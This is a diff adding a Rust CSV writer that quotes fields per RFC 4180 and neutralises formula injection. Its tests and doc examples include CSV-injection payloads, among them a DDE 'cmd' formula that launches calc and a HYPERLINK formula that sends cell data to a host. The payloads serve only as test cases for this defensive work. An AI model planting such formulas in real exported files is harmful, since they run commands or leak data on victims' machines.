@@ -1,0 +1,108 @@
+//! The one CSV writer: RFC 4180 quoting and CRLF line ends, and formula neutralisation as
+//! OWASP recommends, so that a report's agency or a file name such as `=HYPERLINK(…)` stays
+//! text when the CSV is opened in Excel, WPS or LibreOffice. Every CSV nianbao writes goes
+//! through [`write_record`].
+
+use std::borrow::Cow;
+
+/// Characters that make a spreadsheet read a field as a formula (OWASP "CSV injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A field made safe to open in a spreadsheet: a field starting with `= + - @`, tab or carriage
+/// return gets a leading `'`, unless the whole field is a plain number (`-3`, `+1.5`), which
+/// stays numeric.
+///
+/// ```
+/// use nianbao::csv::neutralise;
+/// assert_eq!(neutralise("=1+2"), "'=1+2");
+/// assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
+/// assert_eq!(neutralise("-3"), "-3");
+/// assert_eq!(neutralise("-1+2"), "'-1+2");
+/// assert_eq!(neutralise("示例县"), "示例县");
+/// ```
+pub fn neutralise(field: &str) -> Cow<'_, str> {
+    if field.starts_with(FORMULA_START) && !is_number(field) {
+        Cow::Owned(format!("'{field}"))
+    } else {
+        Cow::Borrowed(field)
+    }
+}
+
+/// A plain decimal number: optional sign, digits with at most one point, optional exponent.
+fn is_number(s: &str) -> bool {
+    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (mantissa, exponent) = match s.find(['e', 'E']) {
+        Some(i) => (&s[..i], Some(&s[i + 1..])),
+        None => (s, None),
+    };
+    let mut parts = mantissa.splitn(2, '.');
+    let int = parts.next().unwrap_or("");
+    let frac = parts.next();
+    let digits = |x: &str| x.bytes().all(|b| b.is_ascii_digit());
+    let mantissa_ok = digits(int)
+        && frac.is_none_or(digits)
+        && !(int.is_empty() && frac.is_none_or(str::is_empty));
+    let exponent_ok = exponent.is_none_or(|e| {
+        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
+        !e.is_empty() && digits(e)
+    });
+    mantissa_ok && exponent_ok
+}
+
+/// Appends one record: fields neutralised, quoted where RFC 4180 requires (a comma, quote, CR or
+/// LF inside), separated by commas, ended by CRLF.
+///
+/// ```
+/// let mut out = String::new();
+/// nianbao::csv::write_record(&mut out, ["a,b", "c\"d", "=1", "-3"]);
+/// assert_eq!(out, "\"a,b\",\"c\"\"d\",'=1,-3\r\n");
+/// ```
+pub fn write_record<I, S>(out: &mut String, fields: I)
+where
+    I: IntoIterator<Item = S>,
+    S: AsRef<str>,
+{
+    for (i, f) in fields.into_iter().enumerate() {
+        if i > 0 {
+            out.push(',');
+        }
+        let f = neutralise(f.as_ref());
+        if f.contains([',', '"', '\n', '\r']) {
+            out.push('"');
+            out.push_str(&f.replace('"', "\"\""));
+            out.push('"');
+        } else {
+            out.push_str(&f);
+        }
+    }
+    out.push_str("\r\n");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_formula_start_is_neutralised_and_numbers_are_kept() {
+        for f in [
+            "=cmd|' /C calc'!A0",
+            "+A1",
+            "-",
+            "@x",
+            "\tx",
+            "\rx",
+            "=HYPERLINK(\"http://x?\"&A1)",
+        ] {
+            assert!(neutralise(f).starts_with('\''), "{f:?}");
+        }
+        for n in ["-3", "+7", "-0.5", "1e5", "-2.5E-3", "12.50", "0"] {
+            assert_eq!(neutralise(n), n);
+        }
+        for not in ["-.", "-e5", "-1e", "--1", "-1.2.3", "-1,2", "- 1"] {
+            assert!(neutralise(not).starts_with('\''), "{not:?}");
+        }
+        let mut out = String::new();
+        write_record(&mut out, ["\r=1", "x\ny"]);
+        assert_eq!(out, "\"'\r=1\",\"x\ny\"\r\n");
+    }
+}
